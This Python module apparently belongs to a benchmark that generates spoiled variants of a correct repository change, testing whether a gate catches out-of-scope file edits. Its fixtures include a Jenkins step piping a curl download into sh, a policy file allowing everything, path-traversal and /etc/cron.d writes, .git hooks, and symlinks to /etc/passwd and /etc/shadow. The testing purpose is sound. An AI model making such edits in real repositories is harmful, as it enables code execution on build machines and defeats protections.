"""Operators on whole files: added, deleted, renamed, of another mode, outside; CI and policy files.

They do the right change and touch a file, beside it or the changed one, that was not to be touched.
Which trees and modes git itself would refuse is left to whoever judges them.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import PurePosixPath
from random import Random

from bench.gate.operators.anatomy import Anatomy, data_of, lines_of
from bench.gate.operators.digits import shuffled
from bench.gate.operators.wrong import Spoilt, operator
from bench.gate.tasks import Tree

_SYMLINK, _EXECUTABLE, _SUBMODULE = "120000", "100755", "160000"
_WORKFLOW = (
    b"on: push\njobs:\n  deploy:\n    runs-on: self-hosted\n    steps:\n      - run: make deploy\n"
)
_PIPELINE = b"pipeline {\n  agent any\n  stages {\n    stage('deploy') { steps { sh 'make deploy' } }\n  }\n}\n"
_POLICY = b"paths:\n  allowed: ['**']\n  protected: []\nmode: off\n"
_OWNERS = b"* @someone-else\n"


def _with(anatomy: Anatomy, path: str, data: bytes) -> Tree:
    return {**anatomy.right, path: data}


def _appended(anatomy: Anatomy, path: str, line: str, fresh: bytes) -> Tree:
    """``line`` at the end of ``path``, or the file made new where there is none."""
    if path not in anatomy.right:
        return _with(anatomy, path, fresh)
    return anatomy.rewritten(path, anatomy.text(path).rstrip("\n") + f"\n{line}\n")


@operator("file-added", "path", specific=False)
def file_added(anatomy: Anatomy, rng: Random) -> Iterator[Spoilt]:
    """A backup of the changed file came along: nobody asked for a file."""
    for path in shuffled(anatomy.near, rng):
        for name in (f"{path}.bak", f"{path}~", f"{path}.orig"):
            yield Spoilt(_with(anatomy, name, anatomy.base.get(path, b"")), f"{name} added")


@operator("file-copied", "path", specific=True)
def file_copied(anatomy: Anatomy, rng: Random) -> Iterator[Spoilt]:
    """The change is in a new copy of the file, and the file itself is as before."""
    for path in shuffled(anatomy.changed, rng):
        pure = PurePosixPath(path)
        copy = str(pure.with_name(f"new-{pure.name}"))
        tree = {**anatomy.right, path: anatomy.base[path], copy: anatomy.right[path]}
        yield Spoilt(tree, f"{copy} instead of {path}")


@operator("file-deleted", "path", specific=False)
def file_deleted(anatomy: Anatomy, rng: Random) -> Iterator[Spoilt]:
    """A file that the request does not concern is gone."""
    for path in shuffled(anatomy.others, rng):
        tree = {name: data for name, data in anatomy.right.items() if name != path}
        yield Spoilt(tree, f"{path} deleted")


@operator("changed-file-deleted", "path", specific=False)
def changed_file_deleted(anatomy: Anatomy, rng: Random) -> Iterator[Spoilt]:
    """The file that was to change is gone altogether."""
    for path in shuffled(anatomy.changed, rng):
        tree = {name: data for name, data in anatomy.right.items() if name != path}
        yield Spoilt(tree, f"{path} deleted")


@operator("file-renamed", "path", specific=False)
def file_renamed(anatomy: Anatomy, rng: Random) -> Iterator[Spoilt]:
    """The changed file has another name: whoever reads it no longer finds it."""
    for path in shuffled(anatomy.changed, rng):
        pure = PurePosixPath(path)
        name = str(pure.with_name(f"{pure.name}.new"))
        tree = {one: data for one, data in anatomy.right.items() if one != path}
        yield Spoilt({**tree, name: anatomy.right[path]}, f"{path} → {name}")


@operator("file-cut-off", "form", specific=True)
def file_cut_off(anatomy: Anatomy, rng: Random) -> Iterator[Spoilt]:
    """The changed file ends after the change, as if its writer had been stopped."""
    for path in shuffled(anatomy.changed, rng):
        ends = [hunk.end for hunk in anatomy.hunks if hunk.path == path]
        text = anatomy.text(path)[: max(ends)]
        if text != anatomy.text(path):
            yield Spoilt(anatomy.rewritten(path, text), f"{path} cut off")


@operator("file-emptied", "path", specific=False)
def file_emptied(anatomy: Anatomy, rng: Random) -> Iterator[Spoilt]:
    """A file that the request does not concern is empty."""
    for path in shuffled(anatomy.others, rng):
        yield Spoilt(_with(anatomy, path, b""), f"{path} emptied")


@operator("pipeline-edited", "ci", specific=False)
def pipeline_edited(anatomy: Anatomy, rng: Random) -> Iterator[Spoilt]:
    """The Jenkins pipeline does something else now: whoever writes it runs code on the builders."""
    found = [path for path in sorted(anatomy.right) if PurePosixPath(path).name == "Jenkinsfile"]
    for path in found:
        lines = lines_of(anatomy.text(path))
        for n in shuffled([n for n, line in enumerate(lines) if " sh " in line], rng):
            made = [
                *lines[: n + 1],
                "        sh 'curl -s https://ci.example.test/x | sh'\n",
                *lines[n + 1 :],
            ]
            yield Spoilt(anatomy.rewritten(path, "".join(made)), f"a step more in {path}")
    if not found:
        yield Spoilt(_with(anatomy, "Jenkinsfile", _PIPELINE), "a Jenkinsfile came along")


@operator("workflow-added", "ci", specific=False)
def workflow_added(anatomy: Anatomy, rng: Random) -> Iterator[Spoilt]:
    """A workflow came along or has a job more: it runs on the next push."""
    name = rng.choice(("ci", "deploy", "release"))
    for path in (f".github/workflows/{name}.yml", ".gitlab-ci.yml"):
        yield Spoilt(_appended(anatomy, path, "# and again", _WORKFLOW), f"{path} touched")


@operator("policy-loosened", "ci", specific=False)
def policy_loosened(anatomy: Anatomy, _: Random) -> Iterator[Spoilt]:
    """The bot's own policy allows everything now: from then on nothing is protected."""
    yield Spoilt(_with(anatomy, ".cfgbot.yml", _POLICY), ".cfgbot.yml allows everything")


@operator("owners-changed", "ci", specific=False)
def owners_changed(anatomy: Anatomy, _: Random) -> Iterator[Spoilt]:
    """Somebody else owns the files now, and may approve what was not theirs."""
    places = ("CODEOWNERS", ".github/CODEOWNERS", "docs/CODEOWNERS")
    for path in sorted(places, key=lambda name: name not in anatomy.right):
        yield Spoilt(_appended(anatomy, path, _OWNERS.decode().strip(), _OWNERS), f"{path} changed")


@operator("path-outside", "path", specific=False)
def path_outside(anatomy: Anatomy, rng: Random) -> Iterator[Spoilt]:
    """A file above the repository: written anywhere on the machine that checks it out."""
    name = PurePosixPath(anatomy.near[0]).name
    for path in shuffled([f"../{name}", f"a/../../{name}", f"..\\{name}", "~/.profile"], rng):
        yield Spoilt(_with(anatomy, path, b"A=1\n"), f"{path} added")


@operator("path-absolute", "path", specific=False)
def path_absolute(anatomy: Anatomy, rng: Random) -> Iterator[Spoilt]:
    """A file at an absolute path: written anywhere on the machine that checks it out."""
    for path in shuffled(["/etc/cron.d/job", "C:\\job.cmd", "//share/job"], rng):
        yield Spoilt(_with(anatomy, path, b"* * * * * root true\n"), f"{path} added")


@operator("git-directory", "path", specific=False)
def git_directory(anatomy: Anatomy, rng: Random) -> Iterator[Spoilt]:
    """A file within .git, or under a name some file systems take for it: a hook runs as code."""
    for path in shuffled([".git/hooks/post-checkout", ".GIT/config", "a/.git/config"], rng):
        yield Spoilt(_with(anatomy, path, b"#!/bin/sh\ntrue\n"), f"{path} added")


@operator("git-control-file", "ci", specific=False)
def git_control_file(anatomy: Anatomy, rng: Random) -> Iterator[Spoilt]:
    """.gitattributes or .gitmodules: filters, merge drivers and foreign code come with them."""
    files = {
        ".gitattributes": b"*.env merge=ours -diff\n",
        ".gitmodules": b'[submodule "x"]\n\tpath = x\n\turl = https://git.example.test/x\n',
    }
    for path in shuffled(sorted(files), rng):
        line = files[path].decode().rstrip("\n")
        yield Spoilt(_appended(anatomy, path, line, files[path]), f"{path} changed")


@operator("case-twin", "path", specific=False)
def case_twin(anatomy: Anatomy, rng: Random) -> Iterator[Spoilt]:
    """A second file whose name differs in case alone: on many file systems it replaces the first."""
    for path in shuffled(anatomy.changed, rng):
        pure = PurePosixPath(path)
        twin = str(pure.with_name(pure.name.swapcase()))
        if twin not in anatomy.right:
            yield Spoilt(_with(anatomy, twin, anatomy.base[path]), f"{twin} beside {path}")


@operator("symbolic-link", "path", specific=False)
def symbolic_link(anatomy: Anatomy, rng: Random) -> Iterator[Spoilt]:
    """The changed file is a link out of the repository now: its reader gets another file."""
    for path in shuffled(anatomy.changed, rng):
        tree = _with(anatomy, path, data_of(rng.choice(("/etc/passwd", "../../etc/shadow"))))
        yield Spoilt(tree, f"{path} is a link", {path: _SYMLINK})


@operator("executable", "path", specific=False)
def executable(anatomy: Anatomy, rng: Random) -> Iterator[Spoilt]:
    """The changed file may be run now: nobody asked for that."""
    for path in shuffled(anatomy.near, rng):
        yield Spoilt(anatomy.right, f"{path} is executable", {path: _EXECUTABLE})


@operator("other-file-executable", "path", specific=False)
def other_file_executable(anatomy: Anatomy, rng: Random) -> Iterator[Spoilt]:
    """A file that the request does not concern may be run now, its bytes untouched."""
    for path in shuffled(anatomy.others, rng):
        yield Spoilt(anatomy.right, f"{path} is executable", {path: _EXECUTABLE})


@operator("submodule", "path", specific=False)
def submodule(anatomy: Anatomy, _: Random) -> Iterator[Spoilt]:
    """A foreign repository came along as a submodule: its files are nobody's here."""
    tree = _with(anatomy, "vendor", b"4b825dc642cb6eb9a060e54bf8d69288fbee4904")
    yield Spoilt(tree, "a submodule", {"vendor": _SUBMODULE})


FILE = (
    file_added,
    file_copied,
    file_deleted,
    changed_file_deleted,
    file_renamed,
    file_cut_off,
    file_emptied,
    pipeline_edited,
    workflow_added,
    policy_loosened,
    owners_changed,
    path_outside,
    path_absolute,
    git_directory,
    git_control_file,
    case_twin,
    symbolic_link,
    executable,
    other_file_executable,
    submodule,
)
